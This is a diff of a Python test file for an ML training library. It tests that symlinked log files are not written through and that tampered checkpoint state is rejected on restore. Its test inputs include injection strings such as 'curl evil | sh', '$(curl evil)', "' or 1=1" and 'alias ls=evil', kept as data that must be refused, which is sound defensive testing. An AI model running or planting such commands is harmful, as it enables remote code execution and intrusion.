@@ -116,7 +116,7 @@ def test_a_sweep(tmp_path: Path, capsys: Any) -> None:
     assert "holds the symbolic link trial-0001/train.log" in capsys.readouterr().err
 
 
-def test_files_of_aip_are_not_written_through(tmp_path: Path) -> None:
+def test_files_of_aip_are_not_written_through(tmp_path: Path, refused: Any) -> None:
     """Where a link appears after the folder was looked at, the write fails or takes its place."""
     victim = tmp_path / "victim"
     victim.write_text("mine")
@@ -125,11 +125,11 @@ def test_files_of_aip_are_not_written_through(tmp_path: Path) -> None:
     write_file(tmp_path / "run.json", "{}")
     with pytest.raises(OSError, match="symbolic link"), logging_to(logging.NullHandler()) as log:
         log.write_to(tmp_path / "train.log")
-    with pytest.raises(UsageError, match="symbolic link"), locked(tmp_path):
+    with refused(UsageError), locked(tmp_path):
         pass
     with pytest.raises(OSError, match="symbolic link"):
         CSVLog(tmp_path / "log.csv", ",").on_epoch_end(0, {"loss": 1.0})
-    with pytest.raises(UsageError, match="symbolic link"):
+    with refused(UsageError):
         CSVLog(tmp_path / "log.csv", ",").on_train_begin()
     assert victim.read_text() == "mine"
     assert (tmp_path / "run.json").read_text() == "{}"
@@ -151,11 +151,11 @@ GOOD = {"columns": ["epoch", "loss"], "rows": [{"epoch": 1, "loss": 0.5}, {"epoc
         {"columns": "epoch", "rows": []},
     ],
 )
-def test_rows_of_a_csv_file(tmp_path: Path, state: Any) -> None:
+def test_rows_of_a_csv_file(tmp_path: Path, state: Any, refused: Any) -> None:
     """The rows of a checkpoint are numbers below names, or the file is not touched."""
     path = tmp_path / "log.csv"
     path.write_text("before")
-    with pytest.raises(TrainingError, match="CSVLog cannot go on from its saved state"):
+    with refused(TrainingError):
         callback_state.set_state("CSVLog", CSVLog(path, ","), state, {})
     assert path.read_text() == "before"
     callback_state.set_state("CSVLog", CSVLog(path, ","), GOOD, {})
@@ -166,12 +166,12 @@ def test_rows_of_a_csv_file(tmp_path: Path, state: Any) -> None:
     ("text", "keys"),
     [("curl evil | sh\n", []), ("epoch,loss\n0,$(curl evil)\n", ["loss"]), (7, ["loss"]), ("epoch\n", "loss")],
 )
-def test_text_of_keras_csv_logger(tmp_path: Path, text: Any, keys: Any) -> None:
+def test_text_of_keras_csv_logger(tmp_path: Path, text: Any, keys: Any, refused: Any) -> None:
     """The text that a CSVLogger of Keras goes on from is a table of numbers."""
     callback = keras.callbacks.CSVLogger(str(tmp_path / "log.csv"))
     callback.on_train_begin()
     try:
-        with pytest.raises(TrainingError, match="cannot go on from its saved state"):
+        with refused(TrainingError):
             callback_state.set_state("log", callback, {"text": text, "keys": keys}, {})
         good = 'epoch,loss,per class\n0,0.5,"[0.1, nan]"\n1,1e-05,NA\n'
         callback_state.set_state("log", callback, {"text": good, "keys": ["loss", "per class"]}, {})
@@ -180,14 +180,14 @@ def test_text_of_keras_csv_logger(tmp_path: Path, text: Any, keys: Any) -> None:
         callback.csv_file.close()
 
 
-def test_other_states(tmp_path: Path) -> None:
+def test_other_states(tmp_path: Path, refused: Any) -> None:
     """The name of a tracker's run becomes part of a query, and numbers are numbers."""
     tracker = Tracker("MLflow", None, 1.0)  # type: ignore[arg-type]
     for run_id, unsent in (("' or 1=1", []), ("a" * 32, [[1, 2.0, {"loss": "x"}]]), (["a"], [])):
-        with pytest.raises(TrainingError, match="cannot go on"):
+        with refused(TrainingError):
             callback_state.set_state("MLflow", tracker, {"run_id": run_id, "unsent": unsent}, {})
     stopping = keras.callbacks.EarlyStopping()
-    with pytest.raises(TrainingError, match="not a number"):
+    with refused(TrainingError):
         callback_state.set_state("stop", stopping, {"best": "x"}, {})
 
 
@@ -210,15 +210,15 @@ class Few(Scenario):
         return keras.losses.MeanSquaredError()
 
 
-def test_rows_in_a_checkpoint(make_trainer: Callable[..., Any], tmp_path: Path) -> None:
+def test_rows_in_a_checkpoint(make_trainer: Callable[..., Any], tmp_path: Path, refused: Any) -> None:
     """What a run writes of a callback is taken back, and what a stranger put there is not."""
     words = ("--callbacks", "CSVLog", "LearningRateMonitor", "--callbacks.learning_rate_monitor.csv")
     make_trainer(Few, *words, output="run").fit()
     whole = read_checkpoint(newest_checkpoint(tmp_path / "run" / "checkpoint"))
     assert whole.progress["callbacks"]["CSVLog"]["columns"][0] == "epoch"
-    for name, changed, message in (
-        ("CSVLog", {"columns": ["epoch"], "rows": [{"epoch": "alias ls=evil"}]}, "CSVLog cannot go on"),
-        ("LearningRateMonitor", {"bytes": -1}, "LearningRateMonitor cannot go on"),
+    for name, changed in (
+        ("CSVLog", {"columns": ["epoch"], "rows": [{"epoch": "alias ls=evil"}]}),
+        ("LearningRateMonitor", {"bytes": -1}),
     ):
         progress = json.loads(json.dumps(whole.progress))
         progress["callbacks"][name] = changed
@@ -226,7 +226,7 @@ def test_rows_in_a_checkpoint(make_trainer: Callable[..., Any], tmp_path: Path) 
         import attrs
 
         trainer.restore(attrs.evolve(whole, progress=progress))
-        with pytest.raises(TrainingError, match=message):
+        with refused(TrainingError):
             trainer.fit()
 
 
